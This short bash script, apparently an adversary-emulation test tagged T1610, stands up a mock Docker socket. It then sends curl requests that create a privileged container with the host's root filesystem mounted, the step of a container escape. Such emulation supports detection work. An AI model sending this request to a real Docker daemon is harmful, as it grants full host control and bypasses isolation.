#!/bin/bash
# T1610: The container engine is asked for a container with the host's root in it.
python3 - <<'P' &
import socket,os
s=socket.socket(socket.AF_UNIX);s.bind("/var/run/docker.sock");s.listen(5)
for i in range(2):
    c,_=s.accept();c.recv(4096);c.sendall(b"HTTP/1.0 200 OK\r\n\r\n{}");c.close()
P
sleep 0.4
curl -s --unix-socket /var/run/docker.sock http://x/containers/json
curl -s --unix-socket /var/run/docker.sock -X POST -d '{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://x/containers/create
